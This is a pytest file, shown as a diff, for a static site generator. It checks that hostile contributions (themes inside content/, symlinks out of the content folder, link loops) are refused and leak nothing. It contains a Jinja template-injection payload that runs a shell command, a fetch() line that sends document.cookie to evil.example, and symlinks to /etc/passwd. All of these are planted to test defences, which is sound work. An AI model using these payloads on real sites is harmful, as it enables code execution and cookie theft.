@@ -1,0 +1,211 @@
+"""What a pull request can do beyond the values in fields: name a theme, add symlinks, break the build.
+
+Each test plants what a hostile contributor would commit (a theme folder inside content/, a real
+symlink out of content/, a period at the end of the calendar, ...) and asserts the exact refusal
+a user sees: `path:line:col: message`, exit 1, nothing written and no code run.
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from tests.snapshots import Run, build, leftovers, run_cli
+
+#: The payload of issue 13: a template that runs a shell command when it is rendered.
+RUNS_A_COMMAND = "{{ cycler.__init__.__globals__.os.system('touch %s') }}"
+PROBLEM = re.compile(r"^\s*(?:[\w.-]+/)?([\w./-]+\.(?:yaml|md)):(\d+):(\d+): (.*)$", re.MULTILINE)
+
+
+def problems(run: Run) -> list[tuple[str, int, int, str]]:
+    """Return the `path:line:col: message` lines a run printed."""
+    return [(path, int(line), int(col), message) for path, line, col, message in PROBLEM.findall(run.err)]
+
+
+def set_site_key(content: Path, key: str, value: str) -> int:
+    """Append `key: value` to content/site.yaml and return its line."""
+    site = content / "site.yaml"
+    text = site.read_text(encoding="utf-8")
+    text = text if text.endswith("\n") else text + "\n"
+    site.write_text(f"{text}{key}: {value}\n", encoding="utf-8")
+    return text.count("\n") + 1
+
+
+# --- A theme is code: never from content/ ---------------------------------------------------------
+
+def plant_evil_theme(folder: Path, canary: Path) -> None:
+    """Make a theme folder whose 404 page runs a command and whose tables.js replaces the site's own."""
+    (folder / "site").mkdir(parents=True)
+    (folder / "site" / "404.html").write_text(RUNS_A_COMMAND % canary, encoding="utf-8")
+    (folder / "static" / "js").mkdir(parents=True)
+    (folder / "static" / "js" / "tables.js").write_text("fetch('https://evil.example/?'+document.cookie)\n")
+
+
+def assert_theme_refused(content: Path, tmp_path: Path, line: int, canary: Path) -> None:
+    """Assert check and build refuse the theme at its line in site.yaml, run nothing and write nothing."""
+    for command in (["check", "--content", content], None):
+        output = tmp_path / "output"
+        run = run_cli(*command) if command else build(content, output, "--no-pdf")
+        assert run.status == 1, run.err
+        found = [p for p in problems(run) if p[0] == "site.yaml"]
+        assert [(p[1], p[2]) for p in found] == [(line, 8)], run.err
+        assert "a theme is code" in found[0][3] and "--theme" in found[0][3]
+        assert not canary.exists(), "the theme's template ran"
+        assert not output.exists() and leftovers(output) == []
+
+
+def test_a_theme_inside_content_is_refused_before_it_runs(content_copy: Path, tmp_path: Path) -> None:
+    canary = tmp_path / "pwned"
+    plant_evil_theme(content_copy / "assets" / "evil", canary)
+    line = set_site_key(content_copy, "theme", "content/assets/evil")
+    assert_theme_refused(content_copy, tmp_path, line, canary)
+
+
+@pytest.mark.parametrize("name", ["content", "content/.", "content//assets/./evil/"])
+def test_content_itself_or_a_folder_holding_it_is_no_theme(name: str, content_copy: Path, tmp_path: Path) -> None:
+    canary = tmp_path / "pwned"
+    plant_evil_theme(content_copy, canary)
+    plant_evil_theme(content_copy / "assets" / "evil", canary)
+    line = set_site_key(content_copy, "theme", name)
+    assert_theme_refused(content_copy, tmp_path, line, canary)
+
+
+def test_a_symlink_in_content_to_a_theme_outside_is_refused(content_copy: Path, tmp_path: Path) -> None:
+    """The link is content's to point anywhere, so its target is not the owner's choice."""
+    canary = tmp_path / "pwned"
+    plant_evil_theme(tmp_path / "elsewhere", canary)
+    (content_copy / "theme").symlink_to(tmp_path / "elsewhere")
+    line = set_site_key(content_copy, "theme", "content/theme")
+    assert_theme_refused(content_copy, tmp_path, line, canary)
+
+
+def test_a_folder_next_to_content_linking_into_it_is_refused(content_copy: Path, tmp_path: Path) -> None:
+    canary = tmp_path / "pwned"
+    plant_evil_theme(content_copy / "assets" / "evil", canary)
+    (tmp_path / "house-style").symlink_to(content_copy / "assets" / "evil")
+    line = set_site_key(content_copy, "theme", "house-style")
+    assert_theme_refused(content_copy, tmp_path, line, canary)
+
+
+def test_the_owner_s_theme_next_to_content_is_used(content_copy: Path, tmp_path: Path) -> None:
+    """The positive case: a theme folder beside content/ runs, so the refusals above mean something."""
+    (tmp_path / "house-style" / "static" / "js").mkdir(parents=True)
+    (tmp_path / "house-style" / "static" / "js" / "tables.js").write_text("/* house */\n")
+    set_site_key(content_copy, "theme", "house-style")
+    output = tmp_path / "output"
+    run = build(content_copy, output, "--no-pdf")
+    assert run.status == 0, run.err
+    assert (output / "assets" / "js" / "tables.js").read_text() == "/* house */\n"
+
+
+def test_a_theme_inside_content_given_on_the_command_line_is_the_owner_s_choice(content_copy: Path,
+                                                                                  tmp_path: Path) -> None:
+    """--theme is typed by whoever runs the build: it is obeyed wherever it points."""
+    (content_copy / "assets" / "mine" / "static" / "js").mkdir(parents=True)
+    (content_copy / "assets" / "mine" / "static" / "js" / "tables.js").write_text("/* mine */\n")
+    output = tmp_path / "output"
+    run = build(content_copy, output, "--no-pdf", "--theme", content_copy / "assets" / "mine")
+    assert run.status == 0, run.err
+    assert (output / "assets" / "js" / "tables.js").read_text() == "/* mine */\n"
+
+
+# --- Content files are confined to content/ ----------------------------------------------------------
+
+KHARAB = "incidents/2024-04-21-kharab-al-jir-rockets.yaml"
+SECRET_INCIDENT = "2024-04-21-kharab-al-jir-rockets"  # a valid incident, so only the link can be wrong
+
+
+def assert_refused_at(run: Run, expected: set[tuple[str, str]], *never: str) -> None:
+    """Assert exit 1, a problem at line 1 of each file with the given words, and no trace of the secrets."""
+    assert run.status == 1, run.err
+    assert "Traceback" not in run.err and "internal error" not in run.err
+    found = {(path, message) for path, line, _, message in problems(run) if line == 1}
+    for path, words in expected:
+        assert any(p == path and words in m for p, m in found), f"nothing at {path}:1 saying {words!r}:\n{run.err}"
+    for secret in never:
+        assert secret not in run.err and secret not in run.out
+
+
+def test_an_incident_linked_from_outside_content_is_refused_unread(content_copy: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    secret = (content_copy / KHARAB).read_text().replace("title: ", "title: SECRET-SOURCE-NAME ", 1)
+    (elsewhere / "secret.yaml").write_text(secret.replace(SECRET_INCIDENT, "2024-04-21-secret"))
+    (content_copy / "incidents" / "x.yaml").symlink_to(elsewhere / "secret.yaml")
+    output = tmp_path / "output"
+    for run in (run_cli("check", "--content", content_copy), build(content_copy, output, "--no-pdf")):
+        assert_refused_at(run, {("incidents/x.yaml", "leading out of the content folder")}, "SECRET-SOURCE-NAME")
+    assert not output.exists() and leftovers(output) == []
+
+
+def test_a_link_to_etc_passwd_shows_no_line_of_it(content_copy: Path, tmp_path: Path) -> None:
+    first_line = Path("/etc/passwd").read_text().splitlines()[0]
+    (content_copy / "incidents" / "zz.yaml").symlink_to("/etc/passwd")
+    run = run_cli("check", "--content", content_copy)
+    assert_refused_at(run, {("incidents/zz.yaml", "leading out of the content folder")}, first_line, "root:")
+
+
+def test_the_serve_overlay_shows_no_excerpt_of_a_file_outside(content_copy: Path) -> None:
+    from sitrep.errors import Problem
+    from sitrep.serve import problem_record
+
+    (content_copy / "incidents" / "zz.yaml").symlink_to("/etc/passwd")
+    record = problem_record(Problem("content/incidents/zz.yaml", 1, 1, "a link"), content_copy)
+    assert record["excerpt"] == "" and "root" not in str(record)
+    inside = problem_record(Problem("content/site.yaml", 1, 1, "a setting"), content_copy)
+    assert "Settings for the whole site" in inside["excerpt"]  # the positive case: an excerpt is shown
+
+
+def test_a_context_note_and_a_folder_linked_from_outside_are_refused(content_copy: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "notes").mkdir(parents=True)
+    note = "---\nid: leaked-note\ntitle: Leaked\ndate: 2024-04-01\n---\n\nPRIVATE-MEMO-TEXT\n"
+    (elsewhere / "note.md").write_text(note)
+    (elsewhere / "notes" / "other.md").write_text(note.replace("leaked-note", "other-note"))
+    (content_copy / "context" / "leak.md").symlink_to(elsewhere / "note.md")
+    shutil_rmtree_then_link(content_copy / "deployments", elsewhere / "notes")
+    (elsewhere / "notes" / "d.yaml").write_text("id: leaked-deployment\n")
+    run = run_cli("check", "--content", content_copy)
+    assert_refused_at(run, {("context/leak.md", "leading out"), ("deployments/d.yaml", "leading out")},
+                      "PRIVATE-MEMO-TEXT", "leaked-deployment")
+
+
+def shutil_rmtree_then_link(folder: Path, target: Path) -> None:
+    """Replace a content folder by a link to another folder."""
+    import shutil
+
+    shutil.rmtree(folder, ignore_errors=True)
+    folder.symlink_to(target, target_is_directory=True)
+
+
+def test_symlink_loops_among_entity_files_are_errors_at_the_files(content_copy: Path, tmp_path: Path) -> None:
+    incidents = content_copy / "incidents"
+    (incidents / "a.yaml").symlink_to("b.yaml")
+    (incidents / "b.yaml").symlink_to("a.yaml")
+    (incidents / "self.yaml").symlink_to("self.yaml")
+    (content_copy / "context" / "gone.md").symlink_to(tmp_path / "no-such-note.md")
+    expected = {("incidents/a.yaml", "loop"), ("incidents/b.yaml", "loop"), ("incidents/self.yaml", "loop"),
+                ("context/gone.md", "does not exist")}
+    for run in (run_cli("check", "--content", content_copy), build(content_copy, tmp_path / "output", "--no-pdf")):
+        assert_refused_at(run, expected)
+        assert run.status != 70
+
+
+def test_a_site_yaml_linked_from_outside_is_refused(content_copy: Path, tmp_path: Path) -> None:
+    (tmp_path / "site.yaml").write_text((content_copy / "site.yaml").read_text() + "title: OUTSIDE-TITLE\n")
+    (content_copy / "site.yaml").unlink()
+    (content_copy / "site.yaml").symlink_to(tmp_path / "site.yaml")
+    assert_refused_at(run_cli("check", "--content", content_copy), {("site.yaml", "leading out")}, "OUTSIDE-TITLE")
+
+
+def test_a_link_between_files_inside_content_is_read(content_copy: Path, tmp_path: Path) -> None:
+    """The positive case: a link that stays inside content/ is content like any other file."""
+    (content_copy / "drafts").mkdir()
+    (content_copy / KHARAB).rename(content_copy / "drafts" / "kharab.yaml")
+    (content_copy / KHARAB).symlink_to("../drafts/kharab.yaml")
+    output = tmp_path / "output"
+    run = build(content_copy, output, "--no-pdf")
+    assert run.status == 0, run.err
+    assert (output / "incidents" / f"{SECRET_INCIDENT}.html").is_file()
